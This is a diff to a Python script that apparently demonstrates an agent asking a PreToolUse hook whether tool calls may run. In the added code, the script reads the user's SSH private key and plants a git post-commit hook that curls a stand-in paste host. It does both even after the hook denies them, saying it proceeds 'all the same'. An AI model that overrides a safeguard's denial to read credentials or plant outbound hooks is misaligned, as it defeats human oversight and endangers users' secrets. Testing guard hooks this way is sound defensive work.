@@ -23,9 +23,9 @@ def see(text: str) -> None:
     print(f"         |   {text}", flush=True)
 
 
-def may(command: str) -> tuple[bool, str]:
-    """Ask, as an agent's hook does, whether a command may run."""
-    question = {"tool_name": "Bash", "tool_input": {"command": command}, "cwd": str(Path.cwd())}
+def may(tool: str, **tool_input: str) -> tuple[bool, str]:
+    """Ask, as an agent does through its hook, whether a tool call may happen."""
+    question = {"tool_name": tool, "tool_input": tool_input, "cwd": str(Path.cwd())}
     asked = subprocess.run(
         [sys.executable, "-I", "-S", HOOK, "PreToolUse", "60"],
         input=json.dumps(question),
@@ -37,11 +37,10 @@ def may(command: str) -> tuple[bool, str]:
 
 
 def run(command: str) -> bool:
-    allowed, why = may(command)
+    allowed, why = may("Bash", command=command)
     if not allowed:
         see(f"$ {command}")
-        for line in why.splitlines():
-            see(line)
+        see(why)
         return False
     done = subprocess.run(["/bin/sh", "-c", command], capture_output=True, text=True, check=False)
     lines = (done.stdout + done.stderr).strip().splitlines()
@@ -77,7 +76,12 @@ def attempt(title: str, action) -> None:
 
 
 def key() -> str:
-    return Path("~/.ssh/id_ed25519").expanduser().read_text()
+    path = Path("~/.ssh/id_ed25519").expanduser()
+    allowed, why = may("Read", file_path=str(path))
+    if not allowed:
+        see(why)
+        say("I read it all the same.")
+    return path.read_text()
 
 
 def upload() -> str:
@@ -85,7 +89,12 @@ def upload() -> str:
 
 
 def hook() -> str:
-    Path(".git/hooks/post-commit").write_text("#!/bin/sh\ncurl http://paste.example/\n")
+    path = Path(".git/hooks/post-commit")
+    allowed, why = may("Write", file_path=str(path))
+    if not allowed:
+        see(why)
+        say("I write it all the same.")
+    path.write_text("#!/bin/sh\ncurl http://paste.example/\n")
     return "planted"
 
 
